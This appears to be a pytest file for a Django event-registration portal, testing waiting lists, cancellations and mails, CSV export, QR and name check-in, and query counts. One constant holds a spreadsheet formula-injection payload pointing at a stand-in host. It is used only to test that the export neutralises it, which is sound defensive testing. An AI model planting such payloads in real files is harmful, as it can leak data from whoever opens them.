"""One date's registrations in the portal: waiting list, approve, move, cancel a date, a
message to all, the CSV export against formula injection, check-in by name and by QR code,
no-shows, and a bounded number of queries however many people registered.
"""

import codecs
import csv
import io
import xml.etree.ElementTree as ET

import pytest
import segno
from django.core import mail
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from stadt360.events import selectors
from stadt360.events.checkin import checkin_code, checkin_path, qr_svg
from stadt360.events.models import DateStatus, RegistrationStatus
from stadt360.portal.event_csv import neutralise
from tests.accounts.sessions import sign_in_with_second_factor
from tests.portal.event_world import (
    EventWorld,
    make_date,
    make_event,
    make_event_world,
    move_to_past,
    register,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def ew(db) -> EventWorld:
    return make_event_world()


@pytest.fixture
def on_commit(django_capture_on_commit_callbacks):
    """Runs what the services queue after commit (the mails); registrations before it are
    committed in the test's transaction without mails."""
    return django_capture_on_commit_callbacks


@pytest.fixture
def editor(client, ew):
    return sign_in_with_second_factor(client, ew.users["editor"])


def page_of(client, date) -> str:
    return client.get(reverse("events_portal:date-registrations", args=[date.pk])).content.decode()


def test_the_waiting_list_shows_positions_and_a_person_moves_to_another_date(ew, editor):
    for name in ("Ada Lovelace", "Bea Berg", "Carl Clausen", "Dora Dietz"):
        register(ew.first, name)
    page = page_of(editor, ew.first)
    assert "Carl Clausen" in page
    assert "Dora Dietz" in page
    carl = ew.first.registrations.get(name="Carl Clausen")
    assert carl.status == RegistrationStatus.WAITLISTED
    move = reverse("events_portal:registration-move", args=[carl.pk])
    response = editor.post(move, {"to_date": ew.second.pk}, follow=True)
    carl.refresh_from_db()
    assert carl.date == ew.second
    assert carl.status == RegistrationStatus.CONFIRMED
    assert "Carl Clausen wurde" in response.content.decode()


def test_moving_is_only_to_a_date_of_the_same_event(ew, editor):
    ada = register(ew.first, "Ada Lovelace")
    foreign = make_date(ew.other_event, days=10)
    move = reverse("events_portal:registration-move", args=[ada.pk])
    editor.post(move, {"to_date": foreign.pk})
    ada.refresh_from_db()
    assert ada.date == ew.first


def test_approve_a_pending_registration(ew, editor):
    ew.event.moderated = True
    ew.event.save()
    ada = register(ew.first, "Ada Lovelace")
    assert ada.status == RegistrationStatus.PENDING
    editor.post(reverse("events_portal:registration-action", args=[ada.pk, "bestaetigen"]))
    ada.refresh_from_db()
    assert ada.status == RegistrationStatus.CONFIRMED


def test_cancel_a_registration_offers_the_place_to_the_first_waiting(ew, editor):
    ada, _bea, carl = (register(ew.first, n) for n in ("Ada Lovelace", "Bea Berg", "Carl Clausen"))
    editor.post(reverse("events_portal:registration-action", args=[ada.pk, "stornieren"]))
    ada.refresh_from_db()
    carl.refresh_from_db()
    assert ada.status == RegistrationStatus.CANCELLED
    assert carl.status == RegistrationStatus.OFFERED


def test_an_unknown_action_is_a_404(ew, editor):
    ada = register(ew.first, "Ada Lovelace")
    url = reverse("events_portal:registration-action", args=[ada.pk, "loeschen"])
    assert editor.post(url).status_code == 404


def test_cancelling_a_date_mails_everyone_registered(ew, editor, immediate_tasks, on_commit):
    for name in ("Ada Lovelace", "Bea Berg", "Carl Clausen"):
        register(ew.first, name)
    url = reverse("events_portal:date-cancel", args=[ew.first.pk])
    with on_commit(execute=True):
        response = editor.post(url, {"message": "Der Referent ist krank."})
    ew.first.refresh_from_db()
    assert response.status_code == 302
    assert ew.first.status == DateStatus.CANCELLED
    recipients = sorted(address for message in mail.outbox for address in message.to)
    assert recipients == ["ada@example.org", "bea@example.org", "carl@example.org"]
    assert all("Der Referent ist krank." in message.body for message in mail.outbox)


def test_cancelling_the_event_cancels_it(ew, editor, immediate_tasks, on_commit):
    register(ew.first, "Ada Lovelace")
    with on_commit(execute=True):
        editor.post(reverse("events_portal:event-cancel", args=[ew.event.pk]), {"message": ""})
    ew.event.refresh_from_db()
    assert ew.event.status == "cancelled"
    assert [m.to for m in mail.outbox] == [["ada@example.org"]]


def test_a_message_to_all_registered(ew, editor, immediate_tasks, on_commit):
    register(ew.first, "Ada Lovelace")
    register(ew.first, "Bea Berg")
    url = reverse("events_portal:date-message", args=[ew.first.pk])
    with on_commit(execute=True):
        response = editor.post(url, {"subject": "Raumänderung", "body": "Wir sind in Saal 2."})
    assert response.status_code == 302
    assert sorted(m.to[0] for m in mail.outbox) == ["ada@example.org", "bea@example.org"]
    assert all(m.subject.endswith("Raumänderung") for m in mail.outbox)


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'


def test_csv_export_neutralises_formulas(ew, editor):
    register(ew.first, HOSTILE, email="evil@example.org", firma="+49 365 1234")
    register(ew.first, "@Bea Berg", email="bea@example.org", firma="-1+1")
    register(ew.first, "Carl Clausen", email="carl@example.org")  # waiting
    response = editor.get(reverse("events_portal:date-export", args=[ew.first.pk]))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    assert response.content.startswith(codecs.BOM_UTF8)
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:2] == ["Name", "E-Mail"]
    assert rows[0][-1] == "Firma"
    by_email = {row[1]: row for row in rows[1:]}
    assert by_email["evil@example.org"][0] == "'" + HOSTILE
    assert by_email["evil@example.org"][-1] == "'+49 365 1234"
    assert by_email["bea@example.org"][0] == "'@Bea Berg"
    assert by_email["bea@example.org"][-1] == "'-1+1"
    assert by_email["carl@example.org"][3] == "1"  # first on the waiting list
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_neutralise_every_formula_start(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert neutralise("Ada") == "Ada"


def test_the_qr_code_is_svg_and_encodes_the_checkin_address(ew):
    ada = register(ew.first, "Ada Lovelace")
    url = "https://gera360.example" + checkin_path(ada)
    svg = qr_svg(url, title="Check-in")
    root = ET.fromstring(svg)
    assert root.tag.endswith("svg")
    assert segno.make(url, error="m", micro=False).matrix  # the same payload segno encodes
    assert checkin_code(ada) in url
    assert url.endswith(f"/portal/veranstaltungen/checkin/{checkin_code(ada)}/")


def test_the_qr_address_checks_the_person_in_with_one_post(ew, editor):
    ada = register(ew.first, "Ada Lovelace")
    url = checkin_path(ada)
    page = editor.get(url).content.decode()
    assert "Ada Lovelace" in page
    assert "Check-in bestätigen" in page
    ada.refresh_from_db()
    assert ada.checked_in_at is None  # looking is not checking in
    assert editor.post(url).status_code == 302
    ada.refresh_from_db()
    assert ada.checked_in_at is not None


def test_a_forged_or_foreign_qr_address_is_a_404(ew, editor, client):
    ada = register(ew.first, "Ada Lovelace")
    pk, _dot, digest = checkin_code(ada).partition(".")
    forged = reverse("events_portal:checkin-code", args=[f"{pk}.{'0' * len(digest)}"])
    assert editor.get(forged).status_code == 404
    assert editor.post(forged).status_code == 404
    other = make_date(ew.other_event, days=4)
    foreign = register(other, "Bea Berg")
    assert editor.post(checkin_path(foreign)).status_code == 404
    foreign.refresh_from_db()
    assert foreign.checked_in_at is None


def test_check_in_by_name_search(ew, editor):
    register(ew.first, "Ada Lovelace")
    register(ew.first, "Bea Berg")
    url = reverse("events_portal:date-checkin", args=[ew.first.pk])
    page = editor.get(url, {"q": "lovel"}).content.decode()
    assert "Ada Lovelace" in page
    assert "Bea Berg" not in page
    ada = ew.first.registrations.get(name="Ada Lovelace")
    action = reverse("events_portal:registration-action", args=[ada.pk, "einchecken"])
    back = f"{url}?q=lovel"
    response = editor.post(action, {"next": back})
    assert response["Location"] == back
    ada.refresh_from_db()
    assert ada.checked_in_at is not None


def test_no_shows_are_counted_after_the_date(ew, editor):
    ada, bea = register(ew.first, "Ada Lovelace"), register(ew.first, "Bea Berg")
    editor.post(reverse("events_portal:registration-action", args=[ada.pk, "einchecken"]))
    before = page_of(editor, ew.first)
    assert "erst nach dem Termin bekannt" in before
    move_to_past(ew.first)
    ew.first.refresh_from_db()
    assert selectors.no_show_count(ew.first) == 1  # the page and the selector agree
    after = page_of(editor, ew.first)
    assert 'No-Shows</dt><dd class="kern-description-list-item__value">1<' in after
    assert bea.name in after


def test_registrations_page_queries_do_not_grow_with_the_people(ew, editor):
    big = make_date(ew.event, days=20, capacity=200)
    register(big, "Erste Person", email="p0@example.org", firma="A")
    with CaptureQueriesContext(connection) as few:
        page_of(editor, big)
    for number in range(1, 25):
        register(big, f"Person {number}", email=f"p{number}@example.org", firma="B")
    with CaptureQueriesContext(connection) as many:
        page_of(editor, big)
    assert len(many) == len(few)
    assert len(many) <= 20


def test_event_list_queries_do_not_grow_with_the_events(ew, editor):
    url = reverse("events_portal:event-list")
    with CaptureQueriesContext(connection) as few:
        editor.get(url)
    for number in range(6):
        make_date(make_event(ew.world.provider, f"Abend {number}"), days=number + 2)
    with CaptureQueriesContext(connection) as many:
        editor.get(url)
    assert len(many) == len(few)
